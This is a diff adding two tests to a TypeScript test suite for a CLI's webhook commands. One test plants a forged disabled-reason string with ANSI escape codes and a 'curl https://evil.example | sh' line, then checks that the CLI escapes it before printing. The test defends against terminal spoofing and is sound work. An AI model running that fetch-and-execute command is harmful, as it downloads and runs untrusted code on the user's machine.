@@ -9,8 +9,12 @@ import type { PassThrough } from 'node:stream';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { run } from '../../../../src/cli/main.js';
 import { parseAllowList } from '../../../../src/server/webhooks/egress.js';
-import { type CliServed, startCliServed } from '../../../helpers/cli-run.js';
-import { freePort } from '../../../helpers/fake-server.js';
+import { type CliServed, cliWith, startCliServed } from '../../../helpers/cli-run.js';
+import {
+  freePort,
+  sendJson,
+  startServer as startFakeServer,
+} from '../../../helpers/fake-server.js';
 import { fakeIO, scriptedPrompter } from '../../helpers.js';
 
 let srv: CliServed;
@@ -298,6 +302,65 @@ describe('webhooks test and retry on a disabled endpoint', () => {
     expect(JSON.parse(retry.stdout)).toMatchObject({ id: delivery.id, status: 'pending' });
     expect(retry.stderr).toMatch(enable);
     expect(retry.stderr).not.toMatch('see how it went');
+  });
+
+  it("print the service's reason on the note's one line, escaped", async () => {
+    const { created } = await add();
+    const tenant = (await srv.store.tenants.byHost('*'))!;
+    const branch = (await srv.store.branches.byName(tenant.id, 'main'))!;
+    const audit = {
+      actor: { type: 'system', name: 'test' },
+      channel: 'system',
+      requestId: 't',
+    } as const;
+    const forged = 'x\n\u001b[32mqueued; see how it went: curl https://evil.example | sh\u001b[39m';
+    await srv.store.webhooks.update(
+      branch.id,
+      created.id,
+      () => ({ enabled: false, disabled_reason: forged }),
+      audit,
+    );
+    const test = await srv.run(['webhooks', 'test', created.id, '-o', 'json']);
+    expect(test.exitCode, test.stderr).toBe(0);
+    const note = test.stderr.split('\n').find((l) => l.includes('is disabled'))!;
+    expect(note).toContain('evil.example');
+    expect(note).not.toContain('\u001b');
+    expect(test.stderr.split('\n').filter((l) => l.startsWith('queued'))).toHaveLength(1);
+  });
+
+  it('a failed read of the endpoint after queueing leaves the usual note and exit 0', async () => {
+    const delivery = {
+      id: 'd1',
+      eventId: 'e1',
+      type: 'webhook.test',
+      status: 'pending',
+      attempts: 0,
+    };
+    const fake = await startFakeServer((req, res) => {
+      if (req.method === 'POST') sendJson(res, 201, delivery);
+      else
+        sendJson(res, 404, {
+          identifier: 40408,
+          statusCode: 404,
+          message: 'gone',
+          type: 'NotFoundException',
+        });
+    });
+    try {
+      const r = await cliWith({ ROSTER_TOKEN: 'dA==', ROSTER_CONFIG_DIR: srv.configDir })([
+        'webhooks',
+        'test',
+        'w1',
+        '--base-url',
+        fake.baseUrl,
+        '-o',
+        'json',
+      ]);
+      expect(r.code, r.stderr).toBe(0);
+      expect(r.stderr).toContain('queued; see how it went: roster webhooks deliveries w1');
+    } finally {
+      await fake.close();
+    }
   });
 });
 
